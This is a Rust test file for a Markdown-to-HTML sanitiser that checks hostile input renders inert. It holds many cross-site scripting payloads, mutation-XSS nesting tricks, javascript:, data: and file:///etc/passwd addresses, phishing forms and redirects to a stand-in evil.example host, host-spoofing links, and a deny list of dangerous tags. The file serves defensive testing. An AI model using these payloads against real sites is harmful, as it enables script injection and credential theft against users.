//! Hostile and honest texts.

use proptest::prelude::*;
use rstest::rstest;

use super::*;

fn html(text: &str) -> String {
    render(text).html
}

/// Whether anything is left that could run, load, ask, style or navigate by itself.
fn is_inert(html: &str) -> bool {
    let lower = html.to_lowercase();
    let tags = [
        "<script",
        "<style",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<meta",
        "<base",
        "<link",
        "<svg",
        "<math",
        "<img",
        "<video",
        "<audio",
        "<source",
        "<button",
        "<textarea",
        "<select",
        "<template",
        "<body",
    ];
    let in_tags: String = tags_of(&lower).concat();
    let attributes = [
        " on",
        " style=",
        " srcdoc=",
        " srcset=",
        " src=",
        " action=",
        " formaction=",
        " target=",
        " id=",
        " name=",
        " class=",
        " background=",
        "javascript:",
        "vbscript:",
        "data:",
        "file:",
    ];
    !tags.iter().any(|tag| lower.contains(tag)) && !attributes.iter().any(|word| in_tags.contains(word))
}

/// The tags alone, without what stands in quotes that are not addresses.
fn tags_of(html: &str) -> Vec<&str> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let end = rest[start..].find('>').map_or(rest.len(), |end| start + end + 1);
        tags.push(&rest[start..end]);
        rest = &rest[end..];
    }
    tags
}

#[rstest]
#[case::script("<script>alert(1)</script>")]
#[case::script_in_a_line("hello <script>alert(1)</script> there")]
#[case::upper_case("<ScRiPt src=//evil.example/x.js></sCrIpT>")]
#[case::unclosed("<script>alert(1)")]
#[case::error_handler("<img src=x onerror=alert(1)>")]
#[case::handler_without_blanks("<img/src=x/onerror=alert(1)//>")]
#[case::svg("<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>")]
#[case::svg_animation("<svg><animate attributeName=href values=javascript:alert(1) /></svg>")]
#[case::math("<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
#[case::math_action("<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>")]
#[case::style("<style>*{background:url(https://evil.example)}</style>")]
#[case::style_attribute("<p style=\"background:url(https://evil.example)\">x</p>")]
#[case::frame("<iframe srcdoc='<script>alert(1)</script>'></iframe>")]
#[case::object("<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>")]
#[case::refresh("<meta http-equiv=refresh content='0;url=https://evil.example'>")]
#[case::base("<base href=https://evil.example/>")]
#[case::form("<form action=https://evil.example><button>Log in</button><input name=password></form>")]
#[case::text_field("<input type=text autofocus onfocus=alert(1)>")]
#[case::picture_button("<input type=image src=https://evil.example/x.png>")]
#[case::video("<video src=https://evil.example/x poster=https://evil.example/y autoplay></video>")]
#[case::picture_set(
    "<picture><source srcset=https://evil.example/x><img srcset=https://evil.example/y></picture>"
)]
#[case::details_handler("<details open ontoggle=alert(1)><summary>x</summary></details>")]
#[case::names_of_the_window("<a id=__TAURI_INTERNALS__ name=location>x</a><p id=root>y</p>")]
#[case::noscript("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
#[case::template("<template><img src=x onerror=alert(1)></template>")]
#[case::title("<title><a title=\"</title><img src=x onerror=alert(1)>\">")]
#[case::comment("<!--><img src=x onerror=alert(1)>-->")]
#[case::cdata("<![CDATA[><img src=x onerror=alert(1)>]]>")]
#[case::instruction("<?xml-stylesheet href=javascript:alert(1)?>")]
#[case::nested_forms(
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">"
)]
#[case::select("<select><template><style><!--</style><img src onerror=alert(1)>--></template></select>")]
#[case::foreign_table("<table><svg><desc><td></desc><style><a title=\"</style><img src onerror=alert(1)>\">")]
#[case::label("<label for=x>y</label><textarea id=x></textarea>")]
#[case::own_marks(
    "<span data-remote-image=\"javascript:alert(1)\" data-host=github.com onclick=alert(1)>x</span>"
)]
#[case::code_that_closes("`</code><script>alert(1)</script>`")]
#[case::reference("[a]: javascript:alert(1)\n\n[a]")]
#[case::link_title("[x](https://a.example \"\\\" onmouseover=alert(1)\")")]
#[case::autolink("<javascript:alert(1)>")]
#[case::picture_address("![x](javascript:alert(1))")]
#[case::picture_alt("![\"><script>alert(1)</script>](https://a.example/x.png)")]
#[case::picture_data("![x](data:text/html;base64,PHNjcmlwdD4=)")]
fn hostile_text_is_shown_inert(#[case] text: &str) {
    let html = html(text);
    assert!(is_inert(&html), "{text:?} became {html:?}");
}

#[rstest]
#[case("javascript:alert(1)")]
#[case("JaVa\tscript:alert(1)")]
#[case(" javascript:alert(1)")]
#[case("\u{1}javascript:alert(1)")]
#[case("&#x6a;avascript:alert(1)")]
#[case("&#106avascript:alert(1)")]
#[case("data:text/html,<script>alert(1)</script>")]
#[case("vbscript:x")]
#[case("file:///etc/passwd")]
#[case("smb://server/share")]
#[case("ms-msdt:/id")]
#[case("tauri://localhost/")]
#[case("asset://localhost/x")]
#[case("ipc://localhost/task_delete")]
#[case("blob:https://a.example/1")]
#[case("view-source:https://a.example")]
#[case("//evil.example/x")]
#[case("/relative")]
#[case("relative.html")]
#[case("#anchor")]
#[case("https://")]
fn only_web_and_mail_addresses_become_links(#[case] address: &str) {
    for text in [format!("<a href=\"{address}\">x</a>"), format!("[x](<{address}>)")] {
        let rendered = render(&text);
        assert!(!rendered.html.contains("href"), "{text:?} became {:?}", rendered.html);
        assert!(rendered.links.is_empty(), "{text:?} is listed as a link");
    }
}

#[test]
fn a_link_names_its_real_host_whatever_its_text_says() {
    let rendered = render("[https://github.com/login](https://github.com@evil.example/login)");
    assert_eq!(rendered.links.len(), 1);
    assert_eq!(rendered.links[0].host, "evil.example", "what stands before @ is no host");
    assert!(rendered.html.contains("data-host=\"evil.example\""), "{}", rendered.html);
}

#[test]
fn look_alike_hosts_are_shown_in_punycode() {
    let rendered = render("[x](https://gіthub.com/)");
    assert_eq!(rendered.links[0].host, "xn--gthub-n2e.com", "the second letter is Cyrillic");
}

#[test]
fn a_host_written_into_the_text_is_not_believed() {
    let html = html("<a href=\"https://evil.example\" data-host=\"github.com\">x</a>");
    assert!(html.contains("data-host=\"evil.example\"") && !html.contains("github.com"), "{html}");
}

#[test]
fn a_remote_picture_waits_to_be_asked_for() {
    assert_eq!(
        html("![a chart](https://pictures.example/a.png?x=1&y=2)"),
        "<p><span data-remote-image=\"https://pictures.example/a.png?x=1&amp;y=2\" \
         data-host=\"pictures.example\">a chart</span></p>\n"
    );
    let raw = html("<img width=1 height=1 src=\"https://tracker.example/p.gif\">");
    assert!(raw.contains("data-remote-image=\"https://tracker.example/p.gif\""), "{raw}");
    assert!(!raw.contains("<img"), "nothing loads by itself");
}

#[test]
fn the_markdown_of_forges_is_understood() {
    insta::assert_snapshot!(html(
        "# Title\n\nA ~~struck~~ **bold** `code` https://a.example/ and <kbd>Esc</kbd>.\n\n\
         - [ ] open\n- [x] done\n\n| a | b |\n|:-:|---|\n| 1 | 2 |\n\n\
         <details><summary>More</summary>\n\nhidden\n\n</details>"
    ), @r#"
    <h1>Title</h1>
    <p>A <del>struck</del> <strong>bold</strong> <code>code</code> <a href="https://a.example/" rel="noopener noreferrer" data-host="a.example">https://a.example/</a> and <kbd>Esc</kbd>.</p>
    <ul>
    <li data-sourcepos="5:1-5:10"><input type="checkbox" disabled=""> open</li>
    <li data-sourcepos="6:1-6:10"><input type="checkbox" disabled="" checked=""> done</li>
    </ul>
    <table>
    <thead>
    <tr>
    <th align="center">a</th>
    <th>b</th>
    </tr>
    </thead>
    <tbody>
    <tr>
    <td align="center">1</td>
    <td>2</td>
    </tr>
    </tbody>
    </table>
    <details><summary>More</summary>
    <p>hidden</p>
    </details>
    "#);
}

#[test]
fn a_position_written_by_hand_leads_no_click_astray() {
    let html = html("<ul><li data-sourcepos=\"1:1-1:1\"><input type=checkbox>x</li></ul>");
    assert!(!html.contains("<li data-sourcepos"), "{html}");
}

#[test]
fn letters_of_every_kind_survive() {
    for text in ["שלום עולם", "a\u{202e}b", "zero\u{200b}width", "🎉👩‍👩‍👧‍👦", "e\u{301}"]
    {
        assert_eq!(html(text), format!("<p>{text}</p>\n"), "the window isolates them; here nothing is lost");
    }
    assert_eq!(html("a\0b"), "<p>a\u{fffd}b</p>\n");
}

#[rstest]
#[case::long("a ".repeat(2_500_000))]
#[case::quotes("> ".repeat(100_000))]
#[case::lists("- ".repeat(50_000))]
#[case::brackets("[".repeat(10_000))]
#[case::pictures("![".repeat(10_000))]
#[case::open_links("[a](".repeat(10_000))]
#[case::emphasis("*a_ ".repeat(20_000))]
#[case::backticks((1..500).map(|n| "`".repeat(n) + " ").collect::<Vec<_>>().concat())]
#[case::divs("<div>".repeat(40_000))]
#[case::bold("<b>".repeat(40_000))]
#[case::tables("<table><tr><td>".repeat(10_000))]
#[case::table(format!("{}\n{}\n{}", "|a".repeat(2_000), "|-".repeat(2_000), "|\n".repeat(50_000)))]
#[case::references((0..10_000).map(|n| format!("[{n}]: https://a.example/{n}\n")).collect::<Vec<_>>().concat())]
#[case::entities("&".repeat(200_000))]
#[case::comments("<!--".repeat(20_000))]
#[case::attributes(format!("<a {}>x</a>", "b=c ".repeat(50_000)))]
#[tokio::test]
async fn monstrous_text_is_shown_in_time(#[case] text: String) {
    let begun = Instant::now();
    let shown = markdown_render(MarkdownText { text: text.clone() }).await.unwrap();
    // The limits hold in an optimised build; what is measured here also holds on a busy machine.
    assert!(begun.elapsed() < Duration::from_secs(2), "took {:?}", begun.elapsed());
    assert!(is_inert(&shown.html[..shown.html.len().min(10_000)]));
    assert!(shown.html.len() <= text.len() * 6 + HTML_MAX_BYTES);
}

#[test]
fn what_is_too_deep_is_shown_as_the_text_it_is() {
    let text = "> ".repeat(200) + "deep";
    assert_eq!(html(&text), format!("<pre>{}deep</pre>", "&gt; ".repeat(200)));
}

fn pieces() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("<script>".to_owned()),
        Just("</script>".to_owned()),
        Just("<svg>".to_owned()),
        Just("</svg>".to_owned()),
        Just("<math>".to_owned()),
        Just("<mtext>".to_owned()),
        Just("<style>".to_owned()),
        Just("</style>".to_owned()),
        Just("<table>".to_owned()),
        Just("<td>".to_owned()),
        Just("<p>".to_owned()),
        Just("</p>".to_owned()),
        Just("<b>".to_owned()),
        Just("<a href='https://a.example/?a=1&b=\"2\"'>".to_owned()),
        Just("</a>".to_owned()),
        Just("<img src=https://a.example/x alt='<b>\"&lt;'>".to_owned()),
        Just("<img src=x onerror=a>".to_owned()),
        Just("<span data-remote-image='https://a.example' data-host=b>".to_owned()),
        Just("</span>".to_owned()),
        Just("<select>".to_owned()),
        Just("<form>".to_owned()),
        Just("<input type=text>".to_owned()),
        Just("<li data-sourcepos='1:1-2:2'>".to_owned()),
        Just("<!--".to_owned()),
        Just("-->".to_owned()),
        Just("<![CDATA[".to_owned()),
        Just("]]>".to_owned()),
        Just("\"'".to_owned()),
        Just("&lt;b&gt;".to_owned()),
        Just("`".to_owned()),
        Just("**".to_owned()),
        Just("\n\n".to_owned()),
        Just("- [x] ".to_owned()),
        Just("[x](https://b.example 't')".to_owned()),
        Just("![y](https://c.example)".to_owned()),
        "[ -~]{0,8}",
    ];
    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(600))]

    #[test]
    fn whatever_is_written_comes_out_inert_and_stays_as_it_is(text in pieces()) {
        if let Some(once) = sanitise(&text) {
            prop_assert!(is_inert(&once.html), "{:?} became {:?}", text, once.html);
            prop_assert_eq!(sanitise(&once.html), Some(once), "sanitising again changed something");
        }
        let rendered = render(&text);
        prop_assert!(is_inert(&rendered.html), "{:?} became {:?}", text, rendered.html);
    }
}
